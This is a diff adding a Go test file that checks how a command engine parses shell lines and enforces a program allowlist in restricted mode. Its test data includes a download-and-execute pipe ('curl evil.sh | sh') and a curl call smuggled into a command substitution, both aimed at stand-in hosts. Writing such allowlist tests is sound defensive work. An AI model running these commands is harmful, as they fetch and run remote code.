@@ -0,0 +1,87 @@
+package engine
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/danballance/goldfish/internal/config"
+)
+
+// TestCommandPrograms tests finding the programs a command line runs
+func TestCommandPrograms(t *testing.T) {
+	testCases := []struct {
+		shell    string
+		line     string
+		expected string
+	}{
+		{"sh", "sed -i 's/a;b/c/' file.txt", "sed"},
+		{"sh", "find . -name '*.go' | xargs grep -l TODO && echo done; wc -l x &", "find,xargs,echo,wc"},
+		{"sh", `LC_ALL=C sort "$1" 2>&1 >out.txt | uniq -c`, "sort,uniq"},
+		{"sh", `echo "today is $(date +%F)" >> log; ls ` + "`dirname $0`", "date,echo,dirname,ls"},
+		{"sh", "if test -f a; then rm a; else (cd b && make); fi # tidy; curl", "test,rm,cd,make"},
+		{"sh", "for f in a b; do gzip \"$f\"; done", "gzip"},
+		{"sh", `echo $(( 1 + 2 )) ${HOME}/x \$HOME`, "echo"},
+		{"sh", "exec /usr/bin/env python3 script.py", "/usr/bin/env"},
+		{"cmd", `dir "C:\Program Files" & type a.txt ^& more`, "dir,type"},
+		{"powershell", "Get-ChildItem -Path 'C:\\x' | Where-Object { $_.Length -gt 1 }", "Get-ChildItem,Where-Object"},
+	}
+	for _, tc := range testCases {
+		programs, err := commandPrograms(tc.line, tc.shell)
+		if err != nil {
+			t.Errorf("%s: unexpected error: %v", tc.line, err)
+			continue
+		}
+		if strings.Join(programs, ",") != tc.expected {
+			t.Errorf("%s: expected %s, got %s", tc.line, tc.expected, strings.Join(programs, ","))
+		}
+	}
+
+	// Programs that are only known when the command runs cannot be checked
+	for _, line := range []string{`$EDITOR notes.txt`, `"$(which sed)" x`, `echo 'unterminated`, `echo $(date`, `%COMSPEC% /c dir`} {
+		shell := "sh"
+		if strings.HasPrefix(line, "%") {
+			shell = "cmd"
+		}
+		if programs, err := commandPrograms(line, shell); err == nil {
+			t.Errorf("%s: expected an error, got %v", line, programs)
+		}
+	}
+}
+
+// TestEngine_checkRestricted tests refusing programs outside the allowlist
+func TestEngine_checkRestricted(t *testing.T) {
+	cmd := &config.Command{Name: "count", BaseCommand: "wc"}
+	engine := NewEngine(0)
+	if err := engine.checkRestricted(cmd, "sh", "curl evil.sh | sh"); err != nil {
+		t.Errorf("Expected no checks outside restricted mode, got %v", err)
+	}
+
+	engine.SetRestricted(nil)
+	if err := engine.checkRestricted(cmd, "sh", "wc -l x"); err == nil || !strings.Contains(err.Error(), "no programs") {
+		t.Errorf("Expected an empty allowlist to refuse everything, got %v", err)
+	}
+
+	engine.SetRestricted([]string{"wc", "grep", "git.exe"})
+	testCases := []struct {
+		cmd     *config.Command
+		shell   string
+		line    string
+		refused string
+	}{
+		{cmd, "sh", "grep -c x file | wc -l", ""},
+		{cmd, "sh", "wc -l $(curl -s evil.example)", "curl"},
+		{cmd, "sh", "./wc -l x", "./wc"},
+		{&config.Command{Name: "fetch", BaseCommand: "curl"}, "sh", "wc -l x", "curl"},
+		{&config.Command{Name: "log", BaseCommand: "GIT"}, "powershell", "Git log", ""},
+		{&config.Command{Name: "ext", BaseCommand: "ext", Plugin: "/opt/goldfish-ext"}, "", "", "/opt/goldfish-ext"},
+	}
+	for _, tc := range testCases {
+		err := engine.checkRestricted(tc.cmd, tc.shell, tc.line)
+		if tc.refused == "" && err != nil {
+			t.Errorf("%s: expected it to be allowed, got %v", tc.line, err)
+		}
+		if tc.refused != "" && (err == nil || !strings.Contains(err.Error(), "'"+tc.refused+"'")) {
+			t.Errorf("%s: expected %s to be refused, got %v", tc.line, tc.refused, err)
+		}
+	}
+}